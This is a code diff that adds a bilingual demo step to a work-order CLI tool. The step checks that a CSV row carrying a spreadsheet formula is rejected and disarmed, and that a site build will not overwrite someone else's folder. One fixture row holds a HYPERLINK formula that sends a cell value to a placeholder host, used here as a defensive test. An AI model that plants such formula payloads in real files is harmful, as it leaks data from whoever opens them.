@@ -185,6 +185,31 @@ await runSafely(['evaluate', '--period', '2026-07', '--db', DB, '--out', LATE, '
 const at = lateText.search(/\d{4}-\d{2} 的评价结果已因之后提交的数据而改变|The result for \d{4}-\d{2} has changed/);
 io.out(at >= 0 ? lateText.slice(at).trimEnd() : zh ? '（没有因迟交数据而改变的月份）' : '(no month changed by late data)');
 
+step(zh ? '11. 有害的输入：公式单元格被拒收且在拒收文件中失效，网站不会覆盖他人的目录' : "11. Hostile input: formula cells are rejected and disarmed in the rejects file; the site never overwrites someone's folder");
+// A provider's export with a spreadsheet formula where the category belongs: the row is rejected, and the
+// rejects file (opened in Excel by the provider) carries the cell as text, never as a formula.
+const HOSTILE = join(OUT, 'hostile');
+rmSync(join(ROOT, HOSTILE), { recursive: true, force: true });
+mkdirSync(join(ROOT, HOSTILE, 'my-folder'), { recursive: true });
+const formulaFile = join(HOSTILE, 'work-orders-formula.csv');
+writeFileSync(
+  join(ROOT, formulaFile),
+  'id,provider,campus,category,priority,reported_at\n' +
+    'WO-2026-HOSTILE-1,huayu-property,main,"=HYPERLINK(""http://example.invalid/""&A1,""点击"")",normal,2026-07-08T10:00:00+08:00\n' +
+    'WO-2026-HOSTILE-2,huayu-property,main,water,normal,2026-07-08T10:05:00+08:00\n',
+);
+io.out(`\n$ charter submit ${formulaFile} --kind work-orders --accept-valid --rejects ${join(HOSTILE, 'rejects')}`);
+await runSafely(['submit', formulaFile, '--kind', 'work-orders', '--accept-valid', '--db', join(HOSTILE, 'hostile.sqlite'), '--rejects', join(HOSTILE, 'rejects'), '--now', NOW, '--lang', lang], io);
+const { readdirSync } = await import('node:fs');
+for (const f of readdirSync(join(ROOT, HOSTILE, 'rejects')).filter((x) => x.endsWith('.csv'))) {
+  const line = readFileSync(join(ROOT, HOSTILE, 'rejects', f), 'utf8').split(/\r?\n/)[1] ?? '';
+  io.out((zh ? '拒收文件第 1 行（单元格以 \' 开头，表格软件按文本显示）：' : 'Rejects file, row 1 (the cell starts with \', so a spreadsheet shows it as text): ') + line);
+}
+writeFileSync(join(ROOT, HOSTILE, 'my-folder', 'index.html'), '<p>someone else\'s page</p>\n');
+io.out(`\n$ charter site build --out ${join(HOSTILE, 'my-folder')}`);
+const refusedCode = await runSafely(['site', 'build', '--out', join(HOSTILE, 'my-folder'), '--db', DB, '--lang', lang], io);
+io.out(zh ? `（退出码 ${refusedCode}；目录中的 index.html ${existsSync(join(ROOT, HOSTILE, 'my-folder', 'index.html')) ? '原样保留' : '已丢失！'}）` : `(exit code ${refusedCode}; the folder's index.html was ${existsSync(join(ROOT, HOSTILE, 'my-folder', 'index.html')) ? 'kept' : 'LOST!'})`);
+
 step(zh ? '输出位置' : 'Where the outputs are');
 io.out(
   zh
